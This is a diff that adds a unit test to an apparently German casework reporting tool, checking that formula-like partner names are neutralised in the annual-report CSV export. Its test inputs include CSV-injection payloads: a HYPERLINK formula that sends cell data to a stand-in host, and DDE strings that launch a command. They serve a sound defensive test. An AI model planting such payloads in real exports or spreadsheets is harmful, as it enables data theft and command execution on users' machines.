@@ -289,3 +289,36 @@ def test_contacts_of_unknown_legacy_types_are_still_counted(report_session: Sess
         "Summe": ("3",),
     }
     assert shown(report, "kontakte_monat")["Jan 2025"] == ("1",)
+
+
+def test_annual_report_csv_neutralises_formulas(report_session: Session) -> None:
+    """A partner named like a formula (the directory is editable) reaches the
+    annual-report CSV as text: every cell
+    starting with =, +, -, @, tab or CR gets an apostrophe; numbers stay numbers."""
+    import csv as csv_module
+    import io
+
+    from casework.models.referrals import Recipient, RecipientKind, ReferralDraft
+    from casework.models.spreadsheet import safe_cell
+    from casework.services import referrals
+    from casework.services.households import households
+
+    hid = households.list_ids(report_session, search="Altkontakt")[0]
+    person = households.members(report_session, hid)[0].id
+    evil = ('=HYPERLINK("http://x.example/?"&A1;"klick")', "+cmd|' /C calc'!A0",
+            "@SUM(1+1)", "-2+3+cmd|' /C calc'!A0")
+    for label in evil:
+        referrals.create(report_session, ReferralDraft(
+            hid, (person,), Recipient(RecipientKind.PARTNER, label, label,
+                                      consent_recipient="traeger"),
+            "Beratung"))
+    report = jahresbericht.build(report_session, date(2026, 1, 1), date(2026, 12, 31), k=1)
+    text = csv_bytes(report).decode("utf-8-sig")
+    cells = [cell for row in csv_module.reader(io.StringIO(text), delimiter=";")
+             for cell in row]
+    for label in evil:
+        assert "'" + label in cells, label
+    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))]
+    assert not [c for c in cells if c.startswith("-") and not c[1:].replace(",", "").isdigit()]
+    assert safe_cell("-3") == "-3" and safe_cell("\tx") == "'\tx" and safe_cell("\r=1") == "'\r=1"
+    assert safe_cell(12) == "12" and safe_cell("Müttercafé") == "Müttercafé"
